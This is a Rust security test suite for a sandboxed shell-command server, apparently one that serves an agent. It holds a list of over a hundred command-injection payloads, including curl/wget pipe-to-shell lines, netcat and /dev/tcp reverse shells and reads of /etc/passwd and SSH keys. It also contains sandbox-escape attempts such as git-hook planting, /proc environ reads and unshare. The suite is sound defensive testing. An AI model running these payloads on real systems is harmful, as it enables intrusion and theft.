                    assert!(out["exit_code"] == 2 && out["stderr"].as_str().unwrap().contains("No such file"), "{out}");
                    assert_eq!(out["args"], json!(["--", payload]));
                }
                Some(c) => assert_eq!(c, "path_outside_root", "{payload:?}"),
            }
            let (code, out) = b.run(&mut s, "cat", &["in.txt".into(), payload.clone()], None);
            if code.is_none() {
                assert!(
                    out["stdout"] == "hello\nworld\n" && out["stderr"].as_str().unwrap().contains("No such file"),
                    "{out}"
                );
            }
            drop(s);
            b.assert_contained(false);
        },
    );
}

// ---------------------------------------------------------------------------------------------
// b. Per-program flag tricks (security-notes §4.4)
// ---------------------------------------------------------------------------------------------

#[test]
fn flag_tricks_are_refused() {
    each(
        &FLAG_TRICKS,
        |(p, a)| format!("{p} {}", a.join(" ")),
        |&(program, args)| {
            if !installed(program) {
                // An allowed program the machine lacks is refused before its flags are looked at.
                missing_prerequisite(&format!("`{program}` is not installed"));
                return;
            }
            let mut b = build_box();
            let argv = b.sub_all(args);
            if args.last() == Some(&"--pre=./pre.sh") && args.contains(&"--") {
                // After `--`, "--pre=./pre.sh" is a file name (a path the program looks for), never a flag.
                let mut s = shell(&b.root, "read-only");
                let (code, out) = b.run(&mut s, program, &argv, None);
                assert!(
                    code.is_none()
                        && out["exit_code"] != 0
                        && out["stderr"].as_str().unwrap().contains("--pre=./pre.sh"),
                    "{out}"
                );
            } else {
                for profile in ["read-only", "build-test"] {
                    // The build-test profile includes the same rules.
                    let mut s = shell(&b.root, profile);
                    let (code, out) = b.run(&mut s, program, &argv, None);
                    assert_eq!(code.as_deref(), Some("argument_not_allowed"), "[{profile}] {program} {args:?}: {out}");
                }
            }
            b.assert_contained(true);
            b.assert_contained(false);
        },
    );
}

#[test]
fn nul_bytes_in_arguments_are_refused() {
    let mut b = build_box();
    let mut s = shell(&b.root, "read-only");
    let (code, _) = b.run(&mut s, "cat", &["in.txt\u{0}../outside/sentinel.txt".into()], None);
    assert_eq!(code.as_deref(), Some("argument_not_allowed"));
    let (code, _) = b.run(&mut s, "echo", &["a\u{0}b".into()], None);
    assert_eq!(code.as_deref(), Some("argument_not_allowed"));
    drop(s);
    b.assert_contained(false);
}

#[test]
fn build_tool_flag_tricks() {
    let mut b = build_box();
    let mut s = shell(&b.root, "build-test");
    for (program, args, want) in BUILD_TOOL_FLAG_TRICKS {
        let argv = b.sub_all(args);
        let (code, out) = b.run(&mut s, program, &argv, None);
        assert_eq!(code.as_deref(), Some(want), "{program} {args:?}: {out}");
    }
    drop(s);
    b.assert_contained(true);
    b.assert_contained(false);
}

// ---------------------------------------------------------------------------------------------
// c. Paths
// ---------------------------------------------------------------------------------------------

#[test]
fn paths_outside_the_root_are_refused() {
    each(
        &PATH_CASES,
        |(p, a, c, _)| format!("{p} {} cwd={c:?}", a.join(" ")),
        |&(program, args, cwd, want)| {
            if !installed(program) {
                // A program the profile allows but the machine lacks is refused as
                // command_not_allowed before its operands are looked at, hiding what this checks.
                missing_prerequisite(&format!("`{program}` is not installed"));
                return;
            }
            let mut b = build_box();
            let argv = b.sub_all(args);
            let cwd = cwd.map(|c| b.sub(c));
            let mut s = shell(&b.root, "read-only");
            let (code, out) = b.run(&mut s, program, &argv, cwd.as_deref());
            assert_eq!(code.as_deref(), Some(want), "{program} {args:?} {cwd:?}: {out}");
            let mut a = json!({"program": program, "args": argv});
            if let Some(c) = &cwd {
                a["cwd"] = json!(c);
            }
            let (code, out) = b.call(&mut s, "start_process", a);
            assert_eq!(code.as_deref(), Some(want), "start_process {program} {args:?} {cwd:?}: {out}");
            drop(s);
            for text in &b.outputs {
                assert!(!text.contains("inside-root-dotenv-secret") && !text.contains("inside-root-key-secret"));
            }
            b.assert_contained(false);
        },
    );
}

// ---------------------------------------------------------------------------------------------
// d. Command-injection payloads
// ---------------------------------------------------------------------------------------------

const PAYLOADS: [&str; 114] = [
    ";id",
    ";id;",
    "; id",
    "|id",
    "| id",
    "||id",
    "|| id",
    "&id",
    "& id &",
    "&&id",
    "&& id",
    "a;id",
    "a|id",
    "a&&id",
    "a||id",
    "; touch {m}",
    "| touch {m}",
    "&& touch {m}",
    "|| touch {m};",
    "& touch {m} &",
    "$(id)",
    "`id`",
    "$(touch {m})",
    "`touch {m}`",
    "$(sleep 5)",
    "`sleep 5`",
    "$(sleep${IFS}5)",
    "; sleep 5",
    "| sleep 5 #",
    "&& sleep 5",
    "$((1+1))",
    "${PATH}",
    "$PATH",
    "${HOME}",
    "$0",
    "$$",
    "${PATH:0:1}bin",
    "$(cat /etc/passwd)",
    "`cat {outside}/sentinel.txt`",
    "$(<{outside}/sentinel.txt)",
    "<(touch {m})",
    ">(touch {m})",
    "${IFS}id",
    "$IFS$9id",
    ";touch${IFS}{m}",
    "{touch,{m}}",
    "cat${IFS}/etc/passwd",
    "\nid",
    "\nid\n",
    "\ntouch {m}",
    "\x0d\nid",
    "\x0dtouch {m}",
    "%0aid",
    "%0Atouch%20{m}",
    "%0d%0aid",
    "\\nid",
    "a\u{2028}id",
    "a\u{85}id",
    "\x0bid",
    "\x0cid",
    "> {m}",
    ">> {m}",
    ">| {m}",
    "2> {m}",
    "&> {m}",
    "< /etc/passwd",
    "<> {m}",
    "1>&2",
    "';touch {m};'",
    "\";touch {m};\"",
    "\\;touch {m}",
    "'$(id)'",
    "\"$(id)\"",
    "$'\\x3b'id",
    "$'\\ntouch {m}'",
    "&& curl http://127.0.0.1:9/x | sh",
    "; wget -qO- http://127.0.0.1:9/x | sh",
    "| nc -e /bin/sh 127.0.0.1 9",
    "; bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
    "|| python3 -c 'import os; os.system(\"id\")'",
    "*",
    "?",
    "[a-z]*",
    "**/*",
    ".*",
    "!!",
    "!-1",
    "~",
    "~root",
    "~/.ssh/id_rsa",
    "-e \\x41",
    "-n",
    "--help",
    "--version",
    "-rf /",
    "--",
    "-",
    "../../../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "\u{37e} touch {m}",
    "\u{ff1b} touch {m}",
    "\u{ff5c} touch {m}",
    "\u{ff04}(touch {m})",
    "\u{200b}touch {m}",
    "touch\u{a0}{m}",
    "\u{202e}id",
    "\u{feff}id",
    "\u{e9};id",
    "\u{1f4a5};id",
    "x\tid",
    "\x1b[31mred\x1b[0m",
    "\x07\x08\x7f",
    // "a" repeated 4 000 times is added by `payloads()`.
];

/// The corpus, with the one payload too long to write out.
fn payloads() -> Vec<String> {
    PAYLOADS.iter().map(|p| p.to_string()).chain(["a".repeat(4000)]).collect()
}

#[test]
fn injection_payloads() {
    let all = payloads();
    let indexed: Vec<(usize, &String)> = all.iter().enumerate().collect();
    each(
        &indexed,
        |(i, p)| format!("{i:03}-{:?}", p.chars().take(20).collect::<String>()),
        |&(_, payload)| {
            let mut b = build_box();
            let payload = b.sub(payload);
            let mut s = shell(&b.root, "read-only");
            // (i) echo: back verbatim, byte for byte.
            let t0 = std::time::Instant::now();
            let (code, out) = b.run(&mut s, "echo", &["BEGIN".into(), payload.clone(), "END".into()], None);
            assert!(code.is_none(), "{code:?} {out}");
            assert_eq!(out["stdout"], format!("BEGIN {payload} END\n"), "{out}");
            assert!(out["exit_code"] == 0 && out["stderr"] == "");
            // ls: refused, or an ls error about that exact name; never executed.
            let (code, out) = b.run(&mut s, "ls", std::slice::from_ref(&payload), None);
            match code.as_deref() {
                None if payload == "--" || payload == "-n" => {
                    assert_eq!(out["exit_code"], 0, "an allowed ls option, listing the cwd: {out}");
                }
                None => {
                    assert!(out["exit_code"] == 2 && out["stdout"] == "", "{out}");
                    let stderr = out["stderr"].as_str().unwrap();
                    assert!(stderr.contains("No such file") || stderr.contains("File name too long"), "{out}");
                }
                Some(c) => assert!(
                    ["argument_not_allowed", "path_outside_root", "denied_by_glob", "invalid_path"].contains(&c),
                    "{c} {out}"
                ),
            }
            // (ii) cwd: refused, or an existing directory inside the root.
            let (code, out) = b.call(&mut s, "run_command", json!({"program": "pwd", "cwd": payload}));
            match code.as_deref() {
                None => {
                    let here = std::fs::canonicalize(out["stdout"].as_str().unwrap().trim()).unwrap();
                    assert!(here.starts_with(&b.root), "{out}");
                }
                Some(c) => assert!(
                    [
                        "path_outside_root",
                        "not_found",
                        "invalid_path",
                        "not_a_directory",
                        "denied_by_glob",
                        "name_too_long"
                    ]
                    .contains(&c),
                    "{c} {out}"
                ),
            }
            // The payload as a program name.
            let (code, out) = b.call(&mut s, "run_command", json!({"program": payload, "args": []}));
            assert!(code.as_deref().is_some_and(|c| REFUSED.contains(&c)), "{code:?} {out}");
            let elapsed = t0.elapsed();
            assert!(elapsed < Duration::from_secs(3), "four calls took {elapsed:?}");
            drop(s);
            b.assert_contained(false);
        },
    );
}

// ---------------------------------------------------------------------------------------------
// The rest of c.: waits, recursive readers, host secrets
// ---------------------------------------------------------------------------------------------

/// A shell server with a profile (or none: the config says), a config file and extra
/// environment.
fn shell_with(root: &Path, profile: Option<&str>, config: Option<&Path>, env: &[(String, String)]) -> Server {
    let mut b = ServerBuilder::new(Kind::Shell).root(root).timeout(Duration::from_secs(30));
    if let Some(p) = profile {
        b = b.arg("--profile").arg(p);
    }
    if let Some(c) = config {
        b = b.arg("--config").arg(c);
    }
    for (k, v) in env {
        b = b.env(k, v);
    }
    b.start()
}

impl Box {
    /// `run_command` with extra fields (`timeout_ms`, `stdin`, ...).
    fn run_with(&mut self, s: &mut Server, program: &str, args: &[String], extra: Value) -> (Option<String>, Value) {
        let mut a = json!({"program": program, "args": args});
        for (k, v) in extra.as_object().cloned().unwrap_or_default() {
            a[k] = v;
        }
        self.call(s, "run_command", a)
    }

    /// Runs a shell snippet as a make recipe inside the sandbox; returns the run_command result.
    fn sandboxed(&mut self, s: &mut Server, snippet: &str, timeout_ms: u64) -> Value {
        let cmd = self.sub(snippet).replace('$', "$$");
        let (code, out) = self.run_with(
            s,
            "make",
            &["-s".into(), "sh".into(), format!("CMD={cmd}")],
            json!({"timeout_ms": timeout_ms}),
        );
        assert!(code.is_none(), "{code:?} {out}");
        out
    }

    /// Runs probe.py inside the sandbox; returns stdout + stderr.
    fn probe(&mut self, s: &mut Server, args: &[&str]) -> String {
        let joined = args.iter().map(|a| self.sub(a)).collect::<Vec<_>>().join(" ");
        let (code, out) = self.run_with(
            s,
            "make",
            &["-s".into(), "py".into(), format!("ARGS={joined}")],
            json!({"timeout_ms": 20_000}),
        );
        assert!(code.is_none(), "{code:?} {out}");
        let text =
            format!("{}{}", out["stdout"].as_str().unwrap_or_default(), out["stderr"].as_str().unwrap_or_default());
        assert!(text.contains(&format!("PROBE-RAN {}", args[0])), "the probe did not run: {text}");
        text
    }
}

fn stdout(out: &Value) -> &str {
    out["stdout"].as_str().unwrap_or_default()
}

fn stderr(out: &Value) -> &str {
    out["stderr"].as_str().unwrap_or_default()
}

/// Pids of live processes whose command line contains `marker` (like `pgrep -f`; this process
/// and zombies excluded), only those whose command name is `name` when given.
fn pgrep(marker: &str, name: Option<&str>) -> Vec<u32> {
    let me = std::process::id();
    let mut found = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else { continue };
        if pid == me {
            continue;
        }
        let Ok(cmdline) = std::fs::read(format!("/proc/{pid}/cmdline")) else { continue };
        if !cmdline.windows(marker.len()).any(|w| w == marker.as_bytes()) {
            continue;
        }
        let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else { continue };
        let (Some(open), Some(close)) = (stat.find('('), stat.rfind(')')) else { continue };
        let comm = &stat[open + 1..close];
        let state = stat[close + 2..].chars().next().unwrap_or('?');
        if state == 'Z' || name.is_some_and(|n| n != comm) {
            continue;
        }
        found.push(pid);
    }
    found
}

/// Polls until no process has `marker` in its command line, for at most `within`; returns the
/// survivors.
fn wait_gone(marker: &str, within: Duration) -> Vec<u32> {
    let deadline = std::time::Instant::now() + within;
    loop {
        let left = pgrep(marker, None);
        if left.is_empty() || std::time::Instant::now() > deadline {
            return left;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A unique `sleep` duration that doubles as a marker in the process list.
fn unique_sleep() -> String {
    let t = token();
    let n = u64::from_str_radix(&t[t.len().saturating_sub(8)..], 16).unwrap_or(0);
    format!("{}.{:08}", 400 + n % 500, n % 100_000_000)
}

#[test]
fn literal_tilde_and_variables_stay_inside() {
    let mut b = build_box();
    let mut s = shell(&b.root, "read-only");
    for arg in ["~/.bashrc", "~root/.bashrc", "$HOME/.bashrc", "${HOME}/.profile", "*", "*.txt", "{a,b}.txt"] {
        let (code, out) = b.run(&mut s, "cat", &[arg.to_string()], None);
        assert!(code.is_none() && out["exit_code"] == 1 && stderr(&out).contains("No such file"), "{arg} {out}");
        assert_eq!(out["stdout"], "");
    }
    drop(s);
    b.assert_contained(false);
}

#[test]
fn fifo_cannot_hang_the_server() {
    let mut b = build_box();
    let mut s = shell(&b.root, "read-only");
    let t0 = std::time::Instant::now();
    let (code, _) = b.run_with(&mut s, "cat", &["fifo".into()], json!({"timeout_ms": 800}));
    assert!(code.as_deref() == Some("timeout") && t0.elapsed() < Duration::from_secs(5), "{code:?}");
    let (code, out) = b.run(&mut s, "echo", &["still".into(), "here".into()], None);
    assert!(code.is_none() && out["stdout"] == "still here\n");
    drop(s);
    b.assert_contained(false);
}

#[test]
fn recursive_readers_do_not_reveal_denied_files() {
    let cases: [(&str, &[&str]); 6] = [
        ("grep", &["-r", "secret", "."]),
        ("grep", &["-R", "secret"]),
        ("rg", &["secret"]),
        ("rg", &["--hidden", "secret"]),
        ("rg", &["-uuu", "secret"]),
        ("diff", &["-r", "sub", "."]),
    ];
    each(
        &cases,
        |(p, a)| format!("{p} {}", a.join(" ")),
        |&(program, args)| {
            let mut b = build_box();
            write(b.root.join("sub/.env"), "NESTED=inside-root-dotenv-secret\n");
            let mut s = shell(&b.root, "read-only");
            let (code, out) = b.run(&mut s, program, &b.sub_all(args), None);
            assert!(
                code.is_none()
                    || ["denied_by_glob", "argument_not_allowed"].contains(&code.as_deref().unwrap_or_default()),
                "{code:?} {out}"
            );
            let text = out.to_string();
            assert!(!text.contains("inside-root-dotenv-secret"), "{out}");
            assert!(!text.contains("inside-root-key-secret"), "{out}");
            drop(s);
            b.assert_contained(false);
        },
    );
}

fn readable_private_key() -> Option<PathBuf> {
    let rd = std::fs::read_dir("/etc/ssl/private").ok()?;
    rd.flatten().map(|e| e.path()).filter(|p| p.is_file()).find(|p| std::fs::read(p).is_ok())
}

#[test]
fn system_private_keys_stay_unreadable() {
    let Some(key) = readable_private_key() else {
        missing_prerequisite(
            "no readable key in /etc/ssl/private on this host (Debian package `ssl-cert`, read as root)",
        );
        return;
    };
    let mut b = build_box();
    let first_line: String = String::from_utf8_lossy(&std::fs::read(&key).unwrap())
        .lines()
        .nth(1)
        .unwrap_or_default()
        .chars()
        .take(20)
        .collect();
    symlink(key.parent().unwrap(), b.root.join("sub/certs")).unwrap();
    let mut s = shell(&b.root, "build-test");
    let (code, out) =
        b.run(&mut s, "make", &["-s".into(), "sh".into(), format!("CMD=cat {} || true", key.display())], None);
    assert!(code.is_none());
    assert!(!stdout(&out).contains(&first_line), "project code read a TLS private key of the host");
    let (code, out) = b.run(
        &mut s,
        "make",
        &["-s".into(), "sh".into(), "CMD=cat /etc/ssl/certs/ca-certificates.crt | head -c 30".into()],
        None,
    );
    assert!(code.is_none() && stdout(&out).contains("BEGIN CERTIFICATE"), "the CA roots stay readable: {out}");
    drop(s);
    let mut s = shell(&b.root, "read-only");
    let (_, out) = b.run(&mut s, "grep", &["-R".into(), "-h".into(), "".into(), "sub".into()], None);
    assert!(!out.to_string().contains(&first_line), "grep -R followed a symlink to a TLS private key");
    drop(s);
    b.assert_contained(false);
}

// ---------------------------------------------------------------------------------------------
// e. Project code in the build-test profile against the sandbox
// ---------------------------------------------------------------------------------------------

#[test]
fn sandbox_files_outside_cannot_be_read() {
    let mut b = build_box();
    let mut s = shell(&b.root, "build-test");
    for path in [
        "{outside}/sentinel.txt",
        "{base}/proj-evil/data.txt",
        "{base}/loot.txt",
        "/etc/shadow",
        "/root/.bashrc",
        "/root/.profile",
        "/proc/self/root{outside}/sentinel.txt",
        "link_sentinel",
        "link_out/sentinel.txt",
    ] {
        let text = b.probe(&mut s, &["read", path]);
        assert!(text.contains("DENIED read") && !text.contains("READ:"), "{path} {text}");
    }
    for d in ["/root", "/home", "/tmp", "{outside}", "{base}", "/var", "/etc", "link_slash/tmp"] {
        let text = b.probe(&mut s, &["listdir", d]);
        assert!(text.contains("DENIED listdir"), "{d} {text}");
    }
    let out = b.sandboxed(&mut s, "cat {outside}/sentinel.txt; ls /root; head -c 100 /root/.bashrc; echo done", 20_000);
    assert!(
        (stderr(&out).contains("Permission denied") || stderr(&out).contains("Read-only file system"))
            && out["stdout"] == "done\n",
        "{out}"
    );
    // A symlink made inside the root does not help, nor does a hardlink.
    let out = b.sandboxed(
        &mut s,
        "ln -s {outside}/sentinel.txt l1 && cat l1; ln {outside}/sentinel.txt l2; cat l2; echo done",
        20_000,
    );
    assert!(out["stdout"] == "done\n" && !b.root.join("l2").exists(), "{out}");
    // Inside the root: readable (the probe's positive control).
    let text = b.probe(&mut s, &["read", "in.txt"]);
    assert!(text.contains("READ:hello"));
    drop(s);
    b.assert_contained(false);
}

#[test]
fn sandbox_writes_outside_are_denied() {
    let mut b = build_box();
    let mut s = shell(&b.root, "build-test");
    for path in [
        "{outside}/{m}",
        "{base}/{m}",
        "/tmp/{m}",
        "/root/{m}",
        "/{m}",
        "/dev/shm/{m}",
        "/var/tmp/{m}",
        "link_out/{m}",
        "link_slash/tmp/{m}",
    ] {
        let text = b.probe(&mut s, &["write", path]);
        assert!(text.contains("DENIED write") && !text.contains("WROTE"), "{path} {text}");
    }
    b.sandboxed(
        &mut s,
        "touch {outside}/{m}; mkdir {outside}/{m}d; cp in.txt /tmp/{m}; mv a.txt {outside}/{m}; \
         ln -s / {outside}/{m}l; echo x > {base}/{m}; echo x >> {outside}/sentinel.txt; \
         rm -f {outside}/sentinel.txt; true",
        20_000,
    );
    assert!(b.root.join("a.txt").exists(), "a root file was moved out");
    // Inside the root: writable (the positive control).
    let text = b.probe(&mut s, &["write", "made-inside.txt"]);
    assert!(text.contains("WROTE") && std::fs::read_to_string(b.root.join("made-inside.txt")).unwrap() == "x");
    std::fs::remove_file(b.root.join("made-inside.txt")).unwrap();
    drop(s);
    b.assert_contained(false);
}

#[test]
fn sandbox_metadata_outside_cannot_change() {
    let mut b = build_box();
    let secret = b.outside.join("sentinel.txt");
    let (before_file, before_dir) = (std::fs::metadata(&secret).unwrap(), std::fs::metadata(&b.outside).unwrap());
    let mut s = shell(&b.root, "build-test");
    b.sandboxed(
        &mut s,
        "chmod 4777 {outside}/sentinel.txt; chmod 777 {outside}; touch -d 2001-01-01 {outside}/sentinel.txt; \
         python3 -c 'import os; os.setxattr(\"{outside}/sentinel.txt\", \"user.bastion\", b\"1\")'; true",
        20_000,
    );
    drop(s);
    let (after_file, after_dir) = (std::fs::metadata(&secret).unwrap(), std::fs::metadata(&b.outside).unwrap());
    let changed = (
        after_file.permissions().mode() & 0o7777 != before_file.permissions().mode() & 0o7777,
        after_dir.permissions().mode() & 0o7777 != before_dir.permissions().mode() & 0o7777,
        (after_file.mtime(), after_file.mtime_nsec()) != (before_file.mtime(), before_file.mtime_nsec()),
        !xattrs(&secret).is_empty(),
    );
    // Put things back before asserting, so a failure here leaves no setuid file behind.
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(before_file.permissions().mode() & 0o7777))
        .unwrap();
    std::fs::set_permissions(&b.outside, std::fs::Permissions::from_mode(before_dir.permissions().mode() & 0o7777))
        .unwrap();
    let f = std::fs::File::options().write(true).open(&secret).unwrap();
    f.set_times(
        std::fs::FileTimes::new()
            .set_accessed(before_file.accessed().unwrap())
            .set_modified(before_file.modified().unwrap()),
    )
    .unwrap();
    for name in xattrs(&secret) {
        let _ = rustix::fs::removexattr(&secret, name.as_str());
    }
    assert!(!changed.0, "chmod of a file outside the root worked");
    assert!(!changed.1, "chmod of a directory outside the root worked");
    assert!(!changed.2, "utimes of a file outside the root worked");
    assert!(!changed.3, "setxattr on a file outside the root worked");
    b.assert_contained(false);
}

#[test]
fn sandbox_git_metadata_stays_read_only() {
    let mut b = build_box();
    let git = b.root.join(".git");
    write(git.join("config"), "[core]\n\tbare = false\n");
    write(git.join("HEAD"), "ref: refs/heads/main\n");
    std::fs::create_dir_all(git.join("hooks")).unwrap();
    let before = state(&git, &[]);
    let mut s = shell(&b.root, "build-test");
    b.sandboxed(
        &mut s,
        "printf '%s\\n' '#!/bin/sh' 'touch /tmp/{m}' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         printf '\\tfsmonitor = touch /tmp/{m}\\n' >> .git/config; echo x > .git/HEAD; rm -rf .git/hooks; true",
        20_000,
    );
    b.sandboxed(
        &mut s,
        "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout; true",
        20_000,
    );
    drop(s);
    let after = if git.is_dir() { state(&git, &[]) } else { BTreeMap::new() };
    assert!(after == before, "project code changed .git: {:?}", after.keys().collect::<Vec<_>>());
    assert!(!b.root.join(".git-old").exists());
    b.assert_contained(false);
}

#[test]
fn node_never_reads_code_from_stdin() {
    let mut b = build_box();
    let mut s = shell(&b.root, "build-test");
    let stdin = b.sub("require('fs').writeFileSync('{m}', '')");
    let (code, _) = b.run_with(&mut s, "node", &[], json!({"stdin": stdin}));
    assert_eq!(code.as_deref(), Some("argument_not_allowed"));
    let (code, p) =
        b.call(&mut s, "start_process", json!({"program": "node", "args": ["-e", "setTimeout(() => {}, 5000)"]}));
    assert!(code.is_none(), "{p}");
    let (code, _) = b.call(&mut s, "write_process_input", json!({"id": p["id"], "data": "process.exit(3)\n"}));
    assert_eq!(code.as_deref(), Some("argument_not_allowed"));
    b.call(&mut s, "kill_process", json!({"id": p["id"]}));
    drop(s);
    b.assert_contained(false);
}

fn assert_would_block<T>(r: std::io::Result<T>, what: &str) {
    match r {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        Err(e) => panic!("{what}: {e}"),
        Ok(_) => panic!("{what}: something reached it from the sandbox"),
    }
}

#[test]
fn sandbox_network_is_closed() {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixListener};
    let mut b = build_box();
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let tcp_port = tcp.local_addr().unwrap().port().to_string();
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let udp_port = udp.local_addr().unwrap().port().to_string();
    let unix_path = b.cfg.join("agent.sock");
    let unix = UnixListener::bind(&unix_path).unwrap();
    unix.set_nonblocking(true).unwrap();
    let inside_path = b.root.join("inside.sock");
    let inside = UnixListener::bind(&inside_path).unwrap();
    inside.set_nonblocking(true).unwrap();
    let abstract_name = format!("bastion-test-{}", token());
    let abstract_sock =
        UnixListener::bind_addr(&SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap()).unwrap();
    abstract_sock.set_nonblocking(true).unwrap();
    let (unix_s, inside_s) = (unix_path.display().to_string(), inside_path.display().to_string());
    let mut s = shell(&b.root, "build-test");
    let text = b.probe(&mut s, &["tcp", "127.0.0.1", &tcp_port]);
    assert!(text.contains("DENIED tcp") && !text.contains("CONNECTED"), "{text}");
    let text = b.probe(&mut s, &["tcp", "localhost", &tcp_port]);
    assert!(!text.contains("CONNECTED"), "{text}");
    let text = b.probe(&mut s, &["udp", "127.0.0.1", &udp_port]);
    assert!(text.contains("DENIED udp") && !text.contains("SENT"), "{text}");
    let text = b.probe(&mut s, &["unix", &unix_s]);
    assert!(text.contains("DENIED unix") && !text.contains("CONNECTED"), "{text}");
    let text = b.probe(&mut s, &["unix", &inside_s]);
    assert!(text.contains("DENIED unix") && !text.contains("CONNECTED"), "{text}");
    let text = b.probe(&mut s, &["abstract", &abstract_name]);
    assert!(text.contains("DENIED abstract") && !text.contains("CONNECTED"), "{text}");
    // Pipes between processes still work (make -j, test runners).
    let text = b.probe(&mut s, &["socketpair"]);
    assert!(text.contains("pair-ok"), "{text}");
    drop(s);
    assert_would_block(tcp.accept(), "tcp");
    assert_would_block(unix.accept(), "unix");
    assert_would_block(inside.accept(), "unix in the root");
    assert_would_block(abstract_sock.accept(), "abstract");
    assert_would_block(udp.recv_from(&mut [0u8; 100]), "udp");
    b.assert_contained(false);
}

#[test]
fn sandbox_tcp_only_to_the_configured_port() {
    let mut b = build_box();
    let allowed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let other = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    other.set_nonblocking(true).unwrap();
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let allowed_port = allowed.local_addr().unwrap().port().to_string();
    let config = b.cfg.join("tcp.toml");
    write(&config, format!("[shell]\nprofile = \"build-test\"\ntcp_connect = [{allowed_port}]\n"));
    let mut s = shell_with(&b.root, None, Some(&config), &[]);
    let text = b.probe(&mut s, &["tcp", "127.0.0.1", &allowed_port]);
    assert!(text.contains("CONNECTED"), "{text}");
    let text = b.probe(&mut s, &["tcp", "127.0.0.1", &other.local_addr().unwrap().port().to_string()]);
    assert!(text.contains("DENIED tcp") && !text.contains("CONNECTED"), "{text}");
    let text = b.probe(&mut s, &["udp", "127.0.0.1", &udp.local_addr().unwrap().port().to_string()]);
    assert!(!text.contains("SENT"), "{text}");
    let text = b.probe(&mut s, &["abstract", "bastion-none"]);
    assert!(text.contains("DENIED abstract"), "{text}");
    drop(s);
    assert_would_block(other.accept(), "tcp to another port");
    assert_would_block(udp.recv_from(&mut [0u8; 100]), "udp");
    b.assert_contained(false);
}

#[test]
fn sandbox_cannot_signal_or_inspect_the_server() {
    let mut b = build_box();
    let secret = format!("SERVER-ENV-SECRET-{}", token());
    let mut helper = Command::new("sleep").arg(unique_sleep()).spawn().unwrap();
    let env = [("BASTION_TEST_SECRET".to_string(), secret.clone()), ("MY_SECRET".to_string(), secret.clone())];
    let mut s = shell_with(&b.root, Some("build-test"), None, &env);
    let server = s.pid();
    for pid in [server, helper.id(), 1] {
        let text = b.probe(&mut s, &["kill", &pid.to_string(), "0"]);
        assert!(!text.contains("SIGNALLED") || pid == 1, "{pid} {text}");
    }
    let out = b.sandboxed(
        &mut s,
        &format!(
            "kill -0 {server} && echo SIGNALLED; kill -9 {server}; kill -9 {}; kill -STOP {server}; echo done",
            helper.id()
        ),
        20_000,
    );
    assert!(!stdout(&out).contains("SIGNALLED") && stdout(&out).contains("done"), "{out}");
    for path in [
        format!("/proc/{server}/environ"),
        format!("/proc/{server}/cmdline"),
        format!("/proc/{}/environ", helper.id()),
        "/proc/1/environ".to_string(),
    ] {
        let text = b.probe(&mut s, &["read", &path]);
        assert!(!text.contains(&secret), "{path}");
    }
    let out = b.sandboxed(&mut s, "cat /proc/*/environ | tr '\\0' '\\n'; ls /proc; ps -e 2>&1 || true", 20_000);
    assert!(!out.to_string().contains(&secret));
    assert!(!stdout(&out).split_whitespace().any(|w| w == server.to_string()), "{out}");
    // Only the command's own processes are visible (its pid namespace).
    let out = b.sandboxed(&mut s, "ls -d /proc/[0-9]* | wc -l", 20_000);
    assert!(stdout(&out).trim().parse::<u32>().unwrap() <= 6, "{out}");
    // kill -9 -1 kills everything the command may signal: only its own namespace.
    let (code, _) = b.run_with(
        &mut s,
        "make",
        &["-s".into(), "sh".into(), "CMD=kill -9 -1; sleep 1".into()],
        json!({"timeout_ms": 10_000}),
    );
    assert!(code.is_none());
    assert_eq!(b.run(&mut s, "echo", &["alive".into()], None).1["stdout"], "alive\n");
    assert!(helper.try_wait().unwrap().is_none(), "a process outside the sandbox was killed");
    assert!(Path::new(&format!("/proc/{server}")).exists());
    drop(s);
    let _ = helper.kill();
    let _ = helper.wait();
    b.assert_contained(false);
}

#[test]
fn sandbox_namespaces_and_privileges() {
    let mut b = build_box();
    let mut s = shell(&b.root, "build-test");
    for kind in ["user", "net", "mount", "pid"] {
        let text = b.probe(&mut s, &["unshare", kind]);
        assert!(text.contains("DENIED unshare") && !text.contains("UNSHARED"), "{text}");
    }
    let out = b.sandboxed(
        &mut s,
        "unshare -r id && echo ESCAPED; unshare -rm sh -c 'mount -t tmpfs none sub && echo MOUNTED'; \
         mount -t tmpfs none sub && echo MOUNTED; chroot / true && echo CHROOTED; echo done",
        20_000,
    );
    for word in ["ESCAPED", "MOUNTED", "CHROOTED"] {
        assert!(!stdout(&out).contains(word), "{out}");
    }
    assert!(stdout(&out).ends_with("done\n"));
    let out = b.sandboxed(
        &mut s,
        "grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status",
        20_000,
    );
    let fields: BTreeMap<&str, &str> = stdout(&out).lines().filter_map(|l| l.split_once(":\t")).collect();
    for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        assert_eq!(fields.get(cap), Some(&"0000000000000000"), "{fields:?}");
    }
    assert!(fields.get("NoNewPrivs") == Some(&"1") && fields.get("Seccomp") == Some(&"2"), "{fields:?}");
    // A setuid-root copy of id gains nothing (no-new-privileges, no capabilities).
    let out = b.sandboxed(
        &mut s,
        "cp /usr/bin/id ./suid-id && chmod u+s ./suid-id && ./suid-id -u; grep CapEff /proc/self/status; rm -f suid-id",
        20_000,
    );
    assert!(stdout(&out).contains("CapEff:\t0000000000000000"), "{out}");
